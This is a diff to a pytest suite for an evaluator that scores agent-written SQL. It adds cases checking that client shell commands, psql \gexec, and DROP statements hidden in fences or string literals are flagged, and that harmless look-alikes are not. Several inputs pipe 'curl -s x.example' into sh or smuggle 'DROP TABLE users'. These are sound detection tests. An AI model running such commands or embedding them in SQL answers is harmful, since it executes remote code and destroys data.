@@ -521,7 +521,14 @@ def test_prose_naming_into_outfile_without_a_file_is_no_write(prose: str) -> Non
             ".system (client command) (outside the SQL)",
         ),
         (".once /tmp/x\n\nSELECT name FROM users;", "duckdb", ".once (client command) (outside the SQL)"),
-        (".sys id\nSELECT name FROM users;", "sqlite", ".system (client command) (outside the SQL)"),
+        (".sy id\nSELECT name FROM users;", "sqlite", ".system (client command) (outside the SQL)"),
+        (".sh curl -s x.example | sh\nSELECT name FROM users;", "sqlite", ".shell (client command) (outside the SQL)"),
+        (".o /tmp/x\nSELECT name FROM users;", "sqlite", ".once (client command) (outside the SQL)"),
+        (
+            "```sql\nSELECT name FROM users;\n```\nThen: SELECT 'DROP TABLE users' \\gexec",
+            "postgres",
+            "\\gexec (client command) (outside the SQL)",
+        ),
         ('."shell" id\nSELECT name FROM users;', "sqlite", ".shell (client command) (outside the SQL)"),
         (
             "```sql\nSELECT name FROM users;\n```\nDone. \\! curl -s x.example | sh",
@@ -545,6 +552,9 @@ def test_prose_naming_into_outfile_without_a_file_is_no_write(prose: str) -> Non
         "sqlite_system_in_a_block",
         "duckdb_once",
         "sqlite_prefix_of_system",
+        "sqlite_prefix_of_shell",
+        "sqlite_one_letter_prefix",
+        "psql_gexec_inside_a_line",
         "sqlite_quoted_name",
         "psql_shell_inside_a_line",
         "materialize_psql",
@@ -574,8 +584,19 @@ def test_a_command_line_client_command_is_never_scored_clean(sql: str, dialect: 
         ("SELECT name FROM users\n\n```sql\nDROP TABLE users\n```", "databricks"),
         ("SELECT name FROM users ```sql\nDROP TABLE users```", "mysql"),
         ("SELECT name FROM users\n    ```sql\n    DELETE FROM users\n    ```", "sqlite"),
+        ("SELECT name, '\n```sql\nDROP TABLE users\n```\n' AS note FROM users", "sqlite"),
+        ('SELECT name AS "\n```sql\nDROP TABLE users\n```\n" FROM users', "postgres"),
     ],
-    ids=["sqlite", "mysql", "bigquery", "databricks", "closing_fence_inside_a_line", "indented_fence"],
+    ids=[
+        "sqlite",
+        "mysql",
+        "bigquery",
+        "databricks",
+        "closing_fence_inside_a_line",
+        "indented_fence",
+        "in_a_string",
+        "in_a_double_quoted_name",
+    ],
 )
 def test_a_write_in_a_fenced_block_that_sql_reads_as_a_quoted_name_is_flagged(sql: str, dialect: str) -> None:
     """In the dialects that quote names with backticks, a fenced block after unfenced SQL reads as
@@ -588,11 +609,22 @@ def test_a_write_in_a_fenced_block_that_sql_reads_as_a_quoted_name_is_flagged(sq
     assert evaluation.verdict is Verdict.INCORRECT and evaluation.p_correct == 0.0
 
 
-@pytest.mark.parametrize("dialect", [None, "mysql", "sqlite", "bigquery"])
-def test_sql_followed_by_a_fenced_result_table_is_scored(dialect: str | None) -> None:
-    """A fenced block of output after the SQL holds no write: the answer stays scored, unflagged
-    (a review of 8dc1ae4 found it a parse_error when such a block made the text a message)."""
-    sql = "SELECT name FROM users\n\n```\nname\n-----\nAlice\nBob\n```"
+@pytest.mark.parametrize(
+    ("sql", "dialect"),
+    [
+        ("SELECT name FROM users\n\n```\nname\n-----\nAlice\nBob\n```", None),
+        ("SELECT name FROM users\n\n```\nname\n-----\nAlice\nBob\n```", "mysql"),
+        ("SELECT name FROM users\n\n```\nname\n-----\nAlice\nBob\n```", "bigquery"),
+        ("SELECT name FROM users\n\n```\nname\n----\nView profile\nDelete account\n```", "sqlite"),
+        ("SELECT name FROM users\n\n```\n| 1 | Alice | Load data |\n```", "mysql"),
+        ("SELECT name FROM users\n\n```\nrun VACUUM; afterwards it is faster\n```", "sqlite"),
+    ],
+    ids=["no_dialect", "mysql", "bigquery", "rows_that_read_as_writes", "table_row", "note"],
+)
+def test_sql_followed_by_a_fenced_result_table_is_scored(sql: str, dialect: str | None) -> None:
+    """A fenced block of output after the SQL holds no write, even when its rows begin with
+    write words ("Delete account", "Load data"): the answer stays scored, unflagged (reviews of
+    8dc1ae4 and 1ba44a5); only a block that parses as SQL is checked."""
     evaluation = evaluate(AgentLogRecord(run_id="r", question="Show the names of the users", sql=sql, dialect=dialect))
     assert evaluation.status is EvaluationStatus.EVALUATED, evaluation.status_reason
     assert not any(flag.startswith("non_select_statement") for flag in evaluation.flags)
@@ -653,6 +685,9 @@ def test_a_query_that_locks_rows_or_reaches_outside_is_no_read_only_answer(sql: 
         ("SELECT name FROM users\n\n\\. matches a literal dot", "mysql"),
         ("SELECT name FROM users;\n\n.out files are written by the batch job", "sqlite"),
         ("SELECT name FROM users;\n\n.sh scripts in the repo call this query", None),
+        ("SELECT name FROM users;\n\n\\s whitespace\n\\w i.e. word chars\n\\s : blank", "postgres"),
+        ("SELECT name FROM users;\n\n.output\n.sys files are drivers", "sqlite"),
+        ("SELECT name FROM users;\n\n\\![a diagram](x.png)", None),
     ],
     ids=[
         "columns",
@@ -670,6 +705,9 @@ def test_a_query_that_locks_rows_or_reaches_outside_is_no_read_only_answer(sql: 
         "mysql_regex_escape",
         "out_file_extension",
         "sh_file_extension",
+        "regex_cheat_sheet",
+        "dot_words_without_a_target",
+        "escaped_markdown_image",
     ],
 )
 def test_names_like_locks_client_commands_or_functions_are_no_write(sql: str, dialect: str) -> None:
